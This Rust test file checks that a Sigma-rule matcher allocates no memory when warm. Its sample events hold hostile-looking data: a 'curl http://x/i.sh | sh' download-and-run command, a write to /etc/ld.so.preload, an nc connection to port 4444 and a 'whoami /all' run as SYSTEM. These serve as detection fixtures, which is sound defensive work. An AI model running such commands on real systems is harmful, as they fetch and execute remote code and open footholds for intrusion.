//! Evaluating an event allocates nothing once the matcher is warm: a
//! counting global allocator checks it over the whole corpus, for Weir
//! canonical events and for flattened regression events.

use std::alloc::{GlobalAlloc, Layout, System};
use std::path::Path;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};

use serde_json::{json, Map, Value};
use weir_rules::{weir_fields, EventSource, RuleSet, SourcedJson};

struct Counting;
static COUNTING: AtomicBool = AtomicBool::new(false);
static ALLOCS: AtomicUsize = AtomicUsize::new(0);

unsafe impl GlobalAlloc for Counting {
    unsafe fn alloc(&self, l: Layout) -> *mut u8 {
        if COUNTING.load(Ordering::Relaxed) {
            ALLOCS.fetch_add(1, Ordering::Relaxed);
        }
        unsafe { System.alloc(l) }
    }
    unsafe fn dealloc(&self, p: *mut u8, l: Layout) {
        unsafe { System.dealloc(p, l) }
    }
    unsafe fn realloc(&self, p: *mut u8, l: Layout, n: usize) -> *mut u8 {
        if COUNTING.load(Ordering::Relaxed) {
            ALLOCS.fetch_add(1, Ordering::Relaxed);
        }
        unsafe { System.realloc(p, l, n) }
    }
}

#[global_allocator]
static GLOBAL: Counting = Counting;

fn obj(v: Value) -> Map<String, Value> {
    v.as_object().unwrap().clone()
}

#[test]
fn matching_allocates_nothing_when_warm() {
    let corpus = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/corpora/sigma");
    assert!(
        corpus.join("rules").is_dir(),
        "Sigma corpus not found at {}",
        corpus.display()
    );
    let dirs: Vec<_> = ["rules", "rules-emerging-threats", "rules-threat-hunting"]
        .iter()
        .map(|d| corpus.join(d))
        .collect();
    let (set, _) = RuleSet::load_paths(&dirs);
    let weir_events = vec![
        obj(
            json!({"event.kind": "exec", "process.executable": "/usr/bin/bash", "process.command_line": "bash -c curl http://x/i.sh | sh", "process.parent.executable": "/usr/sbin/sshd", "user.name": "root", "process.args": ["bash", "-c", "x"]}),
        ),
        obj(
            json!({"event.kind": "file", "event.action": "open_write", "file.path": "/etc/ld.so.preload", "process.executable": "/usr/bin/tee"}),
        ),
        obj(
            json!({"event.kind": "network", "event.action": "connect", "destination.ip": "10.1.2.3", "destination.port": 4444, "process.executable": "/usr/bin/nc"}),
        ),
        obj(json!({"event.kind": "ptrace", "ptrace.request": 16, "process.executable": "/tmp/x"})),
    ];
    let win = obj(
        json!({"EventID": 1, "Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": "cmd.exe /c whoami /all", "ParentImage": "C:\\Windows\\explorer.exe", "User": "NT AUTHORITY\\SYSTEM"}),
    );
    let mut m = set.matcher();
    let mut hits = Vec::with_capacity(256);
    let run = |m: &mut weir_rules::Matcher<'_>, hits: &mut Vec<weir_rules::RuleIdx>| {
        let mut n = 0;
        for e in &weir_events {
            m.matches(&weir_fields(e), hits);
            n += hits.len();
        }
        let src = EventSource {
            product: Some("windows"),
            category: Some("process_creation"),
            service: None,
        };
        m.matches(&SourcedJson { map: &win, source: src }, hits);
        n += hits.len();
        m.matches(&win, hits);
        n + hits.len()
    };
    let warm = run(&mut m, &mut hits);
    assert!(warm > 0, "the events should match something");
    COUNTING.store(true, Ordering::SeqCst);
    let again = run(&mut m, &mut hits);
    COUNTING.store(false, Ordering::SeqCst);
    assert_eq!(warm, again);
    assert_eq!(ALLOCS.load(Ordering::SeqCst), 0, "allocations while matching warm");
}
